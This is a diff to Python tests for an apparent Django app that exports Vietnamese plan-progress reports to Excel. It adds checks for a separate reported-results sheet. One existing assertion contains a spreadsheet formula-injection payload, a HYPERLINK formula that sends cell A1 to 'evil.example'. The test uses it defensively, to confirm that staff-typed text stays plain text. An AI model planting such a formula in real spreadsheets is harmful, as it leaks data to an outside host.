@@ -77,7 +77,7 @@ def test_the_by_year_sheet_has_a_row_per_target_and_year_with_its_status(client)
 
 
 def test_money_is_in_billions_of_dong_on_the_target_s_row(client):
-    plan = Plan.objects.filter(targets__indicator__unit="vnd").distinct().first()
+    plan = Plan.objects.filter(targets__indicator__unit="vnd", targets__measure="level").distinct().first()
     rows = list(report(logged_in(client, "lanhdao"), plan)["Tiến độ"].iter_rows(min_row=6, values_only=True))
     money = [row for row in rows if row[4] == "tỷ đồng"]
     assert money and all("tỷ đồng" in row[5] for row in money)
@@ -103,3 +103,22 @@ def test_text_typed_by_staff_stays_text_and_word_s_line_breaks_do_not_break_the_
         assert all(cell.data_type != "f" for cell in cells)
     wordings = [row[1] for row in book["Tiến độ"].iter_rows(min_row=6, values_only=True)]
     assert wordings[:2] == ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "Thành lập mới150 HTX"]
+
+
+def test_reported_results_have_a_sheet_of_their_own_with_no_status(client):
+    plan = Plan.objects.get(document_number="05-NQ/HU")
+    book = report(logged_in(client, "lanhdao"), plan)
+    assert book.sheetnames == ["Tiến độ", "Theo năm", "Kết quả đã báo cáo"]
+    sheet = book["Kết quả đã báo cáo"]
+    assert "Một huyện (văn bản nguồn không nêu tên huyện)" in sheet["A2"].value
+    rows = list(sheet.iter_rows(min_row=6, values_only=True))
+    assert [(row[1], row[2], row[3], row[4]) for row in rows][:2] == [
+        ("Thành lập được 15 HTX", 15, "HTX", "không ghi ngày"),
+        ("Trong đó 10 HTX nông nghiệp", 10, "HTX", "không ghi ngày"),
+    ]
+    assert len(rows) == plan.results.count()
+
+
+def test_a_plan_without_results_has_no_results_sheet(client):
+    book = report(logged_in(client, "lanhdao"), Plan.objects.get(title__startswith=BAC_GIANG))
+    assert "Kết quả đã báo cáo" not in book.sheetnames
